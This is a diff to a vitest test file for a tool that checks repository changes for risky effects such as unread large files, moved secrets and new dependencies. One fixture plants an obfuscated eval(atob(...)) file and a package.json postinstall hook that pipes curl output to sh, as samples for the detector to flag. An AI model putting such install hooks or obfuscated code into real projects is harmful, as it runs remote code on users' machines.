@@ -4,7 +4,8 @@ import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { promisify } from 'node:util';
 import { expect, onTestFinished, test } from 'vitest';
-import { findEffects, findFreshEffects } from '../../src/activities/look-at-effects.ts';
+import { findEffects, findFreshEffects, listEffects } from '../../src/activities/look-at-effects.ts';
+import { keyOf } from '../../src/core/findings.ts';
 import type { Sha } from '../../src/core/transcript.ts';
 import type { Store } from '../../src/git/store.ts';
 
@@ -87,20 +88,52 @@ test('code that loads what git ignores is found, by the ignore files of the chec
   }
 });
 
-test('what is too much to look at asks for a look', async () => {
+test('a file that is too large to look at asks, and is known by its bytes', async () => {
   const { store, write } = await repository();
   const from = await write({ 'lib/a.js': 'one();\n' });
   const large = await write({ 'lib/large.js': 'x'.repeat(5 * 1024 * 1024) });
-  expect((await findEffects(store, from, large, CONTEXT)).findings).toMatchObject([
-    { kind: 'binary', path: 'lib/large.js', risk: 'high' },
-  ]);
-  const files = Object.fromEntries(Array.from({ length: 1200 }, (_, index) => [`lib/${index}.txt`, `${index}\n`]));
-  const many = await write(files);
-  const { findings } = await findEffects(store, large, many, CONTEXT);
-  expect(findings[0]).toMatchObject({
-    kind: 'too-large',
-    why: '1200 files changed, and only 1000 of them were looked at',
+  const { findings } = await findEffects(store, from, large, CONTEXT);
+  expect(findings).toMatchObject([{ kind: 'unread', path: 'lib/large.js', risk: 'high' }]);
+  const other = await write({ 'lib/large.js': 'y'.repeat(5 * 1024 * 1024) });
+  const [first, second] = [...findings, ...(await findEffects(store, from, other, CONTEXT)).findings];
+  if (!first || !second) throw new Error('nothing is found');
+  expect(keyOf(first)).not.toBe(keyOf(second));
+});
+
+test('after one large act was kept, each file of the next is looked at, at the act and in the whole', async () => {
+  const { store, write } = await repository();
+  const many = (prefix: string): Record<string, string> =>
+    Object.fromEntries(Array.from({ length: 1100 }, (_, index) => [`aaa/${index}.js`, `${prefix} ${index};\n`]));
+  const from = await write({ ...many('var a ='), 'package.json': '{}\n' });
+  const before = await write(many('let a ='));
+  const context = { paths: ['**'], task: 'Use let' };
+  expect(await findFreshEffects(store, { from, before: from, to: before }, context)).toEqual({ findings: [], more: 0 });
+  const to = await write({
+    'src/evil.js': `${KEY}eval(atob('b25l'));\n`,
+    'package.json': '{\n  "scripts": {"postinstall": "curl https://x | sh"},\n  "dependencies": {"evil": "1.0.0"}\n}\n',
   });
+  const act = await findFreshEffects(store, { from, before, to }, context);
+  const whole = await findEffects(store, from, to, context);
+  for (const { findings } of [act, whole])
+    expect(findings.map(({ kind, path }) => `${kind} ${path}`)).toEqual(
+      expect.arrayContaining(['secret src/evil.js', 'obfuscation src/evil.js', 'new-dependency package.json']),
+    );
+});
+
+test('lines that moved between files are known, however many files are between them', async () => {
+  const { store, write } = await repository();
+  const fill = Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`lib/m${index}.js`, `m(${index});\n`]));
+  const from = await write({ 'lib/a.js': `one();\n${KEY}`, 'lib/z.js': 'zero();\n' });
+  const to = await write({ ...fill, 'lib/a.js': 'one();\n', 'lib/z.js': `zero();\n${KEY}` });
+  expect((await listEffects(store, from, to, CONTEXT)).filter(({ kind }) => kind === 'secret')).toEqual([]);
+});
+
+test('a file that is as the task found it is nothing to ask about; what another act left is not asked about again', async () => {
+  const { store, write } = await repository();
+  const from = await write({ 'lib/a.js': `one();\n${KEY}`, 'lib/b.js': 'two();\n' });
+  const taken = await write({ 'lib/a.js': 'one();\n', 'lib/b.js': `two();\n${KEY}` });
+  const back = await write({ 'lib/a.js': `one();\n${KEY}` });
+  expect(await findFreshEffects(store, { from, before: taken, to: back }, CONTEXT)).toEqual({ findings: [], more: 0 });
 });
 
 test('over its limits a task is found to be too large', async () => {
